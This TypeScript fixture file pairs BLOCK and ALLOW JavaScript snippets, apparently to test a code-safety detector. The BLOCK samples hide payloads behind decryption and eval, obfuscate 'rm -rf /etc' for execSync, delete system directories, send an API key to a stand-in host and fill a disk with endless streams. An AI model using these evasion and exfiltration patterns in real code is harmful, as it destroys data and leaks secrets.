/** Payloads that are opened with the program's own key, bytes, blobs and streams that are put together, and streams without an end. */
import type { JavaScriptCases } from "../javascript-case.ts";

export const OPENED: JavaScriptCases = {
  "payloads behind a key that the program brings": [
    [
      "BLOCK",
      "code.hidden",
      "import { createDecipheriv } from 'node:crypto';\nconst d = createDecipheriv('aes-256-cbc', Buffer.from('0123456789abcdef0123456789abcdef', 'utf8'), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\neval(d.update('3g9YKf4nngm6s0PraRo0ZuWrwW10IrV7PONzGsXbF/qkbEKqHnMbYqccSKHJ10cx3B6bSndl3mTrxbjc/ApF8A==', 'base64', 'utf8') + d.final('utf8'));",
    ],
    [
      "ALLOW",
      "",
      "import { createDecipheriv } from 'node:crypto';\nconst d = createDecipheriv('aes-256-cbc', Buffer.from('0123456789abcdef0123456789abcdef', 'utf8'), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\nconsole.log(d.update('3g9YKf4nngm6s0PraRo0ZuWrwW10IrV7PONzGsXbF/qkbEKqHnMbYqccSKHJ10cx3B6bSndl3mTrxbjc/ApF8A==', 'base64', 'utf8') + d.final('utf8'));",
    ],
    [
      "BLOCK",
      "code.hidden",
      "import crypto from 'crypto';\nconst d = crypto.createDecipheriv('aes-128-ctr', '0123456789abcdef', Buffer.alloc(16, 7));\nlet out = d.update('c51b1dd3917528803bd4b11af23436dba73ab0b9ce39ac0e19558fe2a7e8d25cfe99a2fc85281f6887d73633cba8af4a', 'hex', 'utf8');\nout += d.final('utf8');\neval(out);",
    ],
    [
      "ALLOW",
      "",
      "import crypto from 'crypto';\nconst d = crypto.createDecipheriv('aes-128-ctr', '0123456789abcdef', Buffer.alloc(16, 7));\nlet out = d.update('c51b1dd3917528803bd4b11af23436dba73ab0b9ce39ac0e19558fe2a7e8d25cfe99a2fc85281f6887d73633cba8af4a', 'hex', 'utf8');\nout += d.final('utf8');\nconsole.log(out);",
    ],
    [
      "BLOCK",
      "code.hidden",
      "import CryptoJS from 'crypto-js';\neval(CryptoJS.AES.decrypt('U2FsdGVkX18xMjM0NTY3OPf+EfnFGtQlBG6ZqHV7yrl0IpHC7p8g8MEJuYBQ/M2RaNqSvmgXBOZ1Q9ABbwfjXIPfBjtFbaOhCAGozuKMYio=', 'pw').toString(CryptoJS.enc.Utf8));",
    ],
    [
      "ALLOW",
      "",
      "import CryptoJS from 'crypto-js';\nconsole.log(CryptoJS.AES.decrypt('U2FsdGVkX18xMjM0NTY3OPf+EfnFGtQlBG6ZqHV7yrl0IpHC7p8g8MEJuYBQ/M2RaNqSvmgXBOZ1Q9ABbwfjXIPfBjtFbaOhCAGozuKMYio=', 'pw').toString(CryptoJS.enc.Utf8));",
    ],
    [
      "BLOCK",
      "code.hidden",
      "const enc = new TextEncoder();\nconst key = await crypto.subtle.importKey('raw', enc.encode('0123456789abcdef0123456789abcdef'), { name: 'AES-CBC' }, false, ['decrypt']);\nconst out = await crypto.subtle.decrypt({ name: 'AES-CBC', iv: enc.encode('abcdefghijklmnop') }, key, Uint8Array.from(atob('3g9YKf4nngm6s0PraRo0ZuWrwW10IrV7PONzGsXbF/qkbEKqHnMbYqccSKHJ10cx3B6bSndl3mTrxbjc/ApF8A=='), (c) => c.charCodeAt(0)));\neval(new TextDecoder().decode(out));",
    ],
    [
      "ALLOW",
      "",
      "const enc = new TextEncoder();\nconst key = await crypto.subtle.importKey('raw', enc.encode('0123456789abcdef0123456789abcdef'), { name: 'AES-CBC' }, false, ['decrypt']);\nconst out = await crypto.subtle.decrypt({ name: 'AES-CBC', iv: enc.encode('abcdefghijklmnop') }, key, Uint8Array.from(atob('3g9YKf4nngm6s0PraRo0ZuWrwW10IrV7PONzGsXbF/qkbEKqHnMbYqccSKHJ10cx3B6bSndl3mTrxbjc/ApF8A=='), (c) => c.charCodeAt(0)));\nconsole.log(new TextDecoder().decode(out));",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { createDecipheriv, createHash } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nclass Vault {\n  #key: Buffer;\n  constructor(pass: string) { this.#key = createHash('sha256').update(pass).digest(); }\n  open(token: string): string {\n    const [iv, data] = token.split(':').map((h) => Buffer.from(h, 'hex'));\n    const d = createDecipheriv('aes-256-cbc', this.#key, iv!);\n    return Buffer.concat([d.update(data!), d.final()]).toString('utf8');\n  }\n}\nexecSync(new Vault('pw').open('6162636465666768696a6b6c6d6e6f70:efa2392955fc86d27184fb9c4a3fdf08'));",
    ],
    [
      "ALLOW",
      "",
      "import { createDecipheriv, createHash } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nclass Vault {\n  #key: Buffer;\n  constructor(pass: string) { this.#key = createHash('sha256').update(pass).digest(); }\n  open(token: string): string {\n    const [iv, data] = token.split(':').map((h) => Buffer.from(h, 'hex'));\n    const d = createDecipheriv('aes-256-cbc', this.#key, iv!);\n    return Buffer.concat([d.update(data!), d.final()]).toString('utf8');\n  }\n}\nexecSync(new Vault('pw').open('6162636465666768696a6b6c6d6e6f70:fab30fa0f5b29bce5f8a09d85301490a'));",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { createDecipheriv, scryptSync } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nconst d = createDecipheriv('aes-256-cbc', scryptSync('pw', 'salt', 32), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\nexecSync(d.update('4a75a43a7c70831a647e8213116f1a54', 'hex', 'utf8') + d.final('utf8'));",
    ],
    [
      "ALLOW",
      "",
      "import { createDecipheriv, scryptSync } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nconst d = createDecipheriv('aes-256-cbc', scryptSync('pw', 'salt', 32), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\nexecSync(d.update('7a4cb5c4312c6883a751c31d2e7a4e01', 'hex', 'utf8') + d.final('utf8'));",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { createDecipheriv, pbkdf2Sync } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nconst d = createDecipheriv('aes-256-cbc', pbkdf2Sync('pw', 'salt', 1000, 32, 'sha256'), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\nexecSync(d.update('88123b27f776ddccfe55637fc39a9669', 'hex', 'utf8') + d.final('utf8'));",
    ],
    [
      "ALLOW",
      "",
      "import { createDecipheriv, pbkdf2Sync } from 'node:crypto';\nimport { execSync } from 'node:child_process';\nconst d = createDecipheriv('aes-256-cbc', pbkdf2Sync('pw', 'salt', 1000, 32, 'sha256'), Buffer.from('6162636465666768696a6b6c6d6e6f70', 'hex'));\nexecSync(d.update('8f484487faa7e698093c466a2d2a9c9d', 'hex', 'utf8') + d.final('utf8'));",
    ],
  ],
  "bytes that are put together": [
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'node:child_process';\nconst b = Buffer.alloc(11);\nb.write('rm -rf ', 0);\nb.write('/etc', 7);\nexecSync(b.toString('latin1'));",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'node:child_process';\nconst b = Buffer.alloc(10);\nb.write('rm -rf ', 0);\nb.write('src', 7);\nexecSync(b.toString('latin1'));",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'node:child_process';\nconst b = Buffer.alloc(11);\nBuffer.from('rm -rf ').copy(b, 0);\nBuffer.from('/etc').copy(b, 7);\nexecSync(b.toString());",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'node:child_process';\nconst b = Buffer.alloc(10);\nBuffer.from('rm -rf ').copy(b, 0);\nBuffer.from('src').copy(b, 7);\nexecSync(b.toString());",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'node:child_process';\nconst hex = BigInt('0x726d202d7266202f657463').toString(16);\nexecSync(Buffer.from(hex, 'hex').toString());",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'node:child_process';\nconst hex = BigInt('0x726d202d726620737263').toString(16);\nexecSync(Buffer.from(hex, 'hex').toString());",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import qs from 'node:querystring';\nimport { execSync } from 'node:child_process';\nconst { c } = qs.parse('c=rm%20-rf%20%2Fetc');\nexecSync(c as string);",
    ],
    [
      "ALLOW",
      "",
      "import qs from 'node:querystring';\nimport { execSync } from 'node:child_process';\nconst { c } = qs.parse('c=rm%20-rf%20src');\nexecSync(c as string);",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'node:child_process';\nexecSync(new TextDecoder().decode((Uint8Array as any).fromBase64('cm0gLXJmIC9ldGM=')));",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'node:child_process';\nexecSync(new TextDecoder().decode((Uint8Array as any).fromBase64('cm0gLXJmIHNyYw==')));",
    ],
  ],
  "blobs, answers and streams of the web": [
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nconst b = new Blob(['/etc'], { type: 'text/plain' });\nrmSync(await b.text(), { recursive: true, force: true });",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nconst b = new Blob(['./build'], { type: 'text/plain' });\nrmSync(await b.text(), { recursive: true, force: true });",
    ],
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nconst { dir } = await Response.json({ dir: '/etc' }).json();\nrmSync(dir, { recursive: true, force: true });",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nconst { dir } = await Response.json({ dir: './build' }).json();\nrmSync(dir, { recursive: true, force: true });",
    ],
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nconst s = new ReadableStream<string>({ start(c) { c.enqueue('/etc'); c.close(); } }).pipeThrough(new TransformStream({ transform(x, c) { c.enqueue(x.trim()); } }));\nfor await (const p of s) rmSync(p, { recursive: true, force: true });",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nconst s = new ReadableStream<string>({ start(c) { c.enqueue('./build'); c.close(); } }).pipeThrough(new TransformStream({ transform(x, c) { c.enqueue(x.trim()); } }));\nfor await (const p of s) rmSync(p, { recursive: true, force: true });",
    ],
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nfunction* names() { yield '/etc'; yield './x'; }\nnames().filter((n) => n !== '').take(1).forEach((n) => rmSync(n, { recursive: true, force: true }));",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nfunction* names() { yield './build'; yield './x'; }\nnames().filter((n) => n !== '').take(1).forEach((n) => rmSync(n, { recursive: true, force: true }));",
    ],
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nclass A { get dir() { return '/etc'; } }\nclass B extends A { get dir() { return super.dir + '/x'; } }\nrmSync(new B().dir, { recursive: true, force: true });",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nclass A { get dir() { return './build'; } }\nclass B extends A { get dir() { return super.dir + '/x'; } }\nrmSync(new B().dir, { recursive: true, force: true });",
    ],
    [
      "BLOCK",
      "fs.delete_tree path.system_sensitive",
      "import { rmSync } from 'node:fs';\nfor (const n of new Set(['/etc', './x']).difference(new Set(['./x']))) rmSync(n, { recursive: true, force: true });",
    ],
    [
      "ALLOW",
      "",
      "import { rmSync } from 'node:fs';\nfor (const n of new Set(['./build', './x']).difference(new Set(['./x']))) rmSync(n, { recursive: true, force: true });",
    ],
    [
      "BLOCK",
      "net.send env.secret",
      "const body = new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode(process.env.OPENAI_API_KEY)); c.close(); } });\nawait fetch('https://collect.example.net', { method: 'POST', body, duplex: 'half' } as any);",
    ],
    [
      "ALLOW",
      "",
      "const body = new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode(String(process.uptime()))); c.close(); } });\nawait fetch('https://collect.example.net', { method: 'POST', body, duplex: 'half' } as any);",
    ],
    [
      "BLOCK",
      "net.send env.secret",
      "new Worker(URL.createObjectURL(new Blob([\"fetch('https://collect.example.net/?k=' + process.env.OPENAI_API_KEY)\"], { type: 'text/javascript' })));",
    ],
    [
      "ALLOW",
      "",
      "new Worker(URL.createObjectURL(new Blob([\"fetch('https://collect.example.net/?k=' + String(process.uptime()))\"], { type: 'text/javascript' })));",
    ],
    [
      "BLOCK",
      "net.send env.secret",
      "import axios from 'axios';\nconst client = axios.create({ baseURL: 'https://collect.example.net' });\nclient.interceptors.request.use((cfg) => { cfg.data = { ...cfg.data, note: process.env.OPENAI_API_KEY }; return cfg; });\nawait client.post('/in', { a: 1 });",
    ],
    [
      "ALLOW",
      "",
      "import axios from 'axios';\nconst client = axios.create({ baseURL: 'https://collect.example.net' });\nclient.interceptors.request.use((cfg) => { cfg.data = { ...cfg.data, note: String(process.uptime()) }; return cfg; });\nawait client.post('/in', { a: 1 });",
    ],
    [
      "ALLOW",
      "",
      "import axios from 'axios';\nconst client = axios.create({ baseURL: 'https://api.example.com' });\nclient.interceptors.request.use((cfg) => { cfg.headers.Authorization = `Bearer ${process.env.API_TOKEN}`; return cfg; });\nawait client.get('/users');",
    ],
  ],
  "streams without an end that fill a disk": [
    [
      "BLOCK",
      "resource.exhaust",
      "import { pipeline } from 'node:stream/promises';\nimport { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nfunction* junk() { while (true) yield Buffer.alloc(1 << 20, 0x41); }\nawait pipeline(Readable.from(junk()), createWriteStream('fill.bin'));",
    ],
    [
      "ALLOW",
      "",
      "import { pipeline } from 'node:stream/promises';\nimport { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nfunction* rows(n: number) { for (let i = 0; i < n; i++) yield `row ${i}`; }\nawait pipeline(Readable.from(rows(100)), createWriteStream('rows.txt'));",
    ],
    [
      "BLOCK",
      "resource.exhaust",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nasync function* junk() { for (;;) yield 'x'.repeat(65536); }\nReadable.from(junk()).pipe(createWriteStream('fill.bin'));",
    ],
    [
      "ALLOW",
      "",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nasync function* ticks() { for (;;) { await new Promise((r) => setTimeout(r, 1000)); yield 'tick'; } }\nReadable.from(ticks()).pipe(createWriteStream('ticks.log'));",
    ],
    [
      "BLOCK",
      "resource.exhaust",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nclass Junk extends Readable { _read(size: number) { this.push(Buffer.alloc(size)); } }\nnew Junk().pipe(createWriteStream('fill.bin'));",
    ],
    [
      "ALLOW",
      "",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\nclass Counter extends Readable { private i = 0; _read() { if (this.i++ < 100) this.push(String(this.i)); else this.push(null); } }\nnew Counter().pipe(createWriteStream('count.txt'));",
    ],
    [
      "BLOCK",
      "resource.exhaust",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\ncreateReadStream('/dev/zero').pipe(createWriteStream('fill.bin'));",
    ],
    [
      "ALLOW",
      "",
      "import { Readable } from 'node:stream';\nimport { createReadStream, createWriteStream } from 'node:fs';\ncreateReadStream('/dev/urandom', { end: 1023 }).pipe(createWriteStream('seed.bin'));",
    ],
  ],
};
